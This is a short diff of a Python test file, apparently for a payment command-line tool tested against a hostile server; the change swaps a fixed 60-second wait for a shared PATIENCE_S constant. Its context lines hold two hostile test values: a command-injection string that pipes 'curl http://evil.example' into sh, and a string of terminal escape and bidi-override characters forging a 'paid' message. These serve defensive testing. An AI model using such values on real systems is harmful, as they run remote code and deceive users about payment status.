@@ -15,6 +15,7 @@ from payments import lnurl
 from pricing.loopback import is_here
 from tests.ask_buyer import Buyer
 from tests.hostile_server import JOB, Liar, Raw, Says, lying
+from tests.patience import PATIENCE_S
 
 STEERS = "\x1b]0;owned\x07\x9b2J\u202e\u2066\x00\r\nboltwork: paid"
 SHELL = "x; curl http://evil.example | sh #"
@@ -163,7 +164,7 @@ async def test_an_interrupt_ends_a_request_under_way_with_130(
     for hangs_up in (False, True):
         silent.clear()
         process = await buyer.begin(*words, BOLTWORK_URL=url)
-        await asyncio.wait_for(silent.wait(), 60)
+        await asyncio.wait_for(silent.wait(), PATIENCE_S)
         if hangs_up:
             server.close()
             for writer in writers:
